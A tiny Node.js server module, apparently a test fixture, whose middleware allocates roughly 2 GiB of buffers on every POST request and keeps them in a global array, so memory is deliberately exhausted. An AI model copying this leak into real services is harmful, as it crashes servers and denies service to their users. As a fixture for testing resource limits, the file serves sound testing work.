'use strict';
const kept = [];

require('./contract').serve({
  wrap: (next) => (req, res) => {
    if (req.method === 'POST') for (let count = 0; count < 64; count++) kept.push(Buffer.alloc(32 * 2 ** 20, 1));
    next(req, res);
  },
});
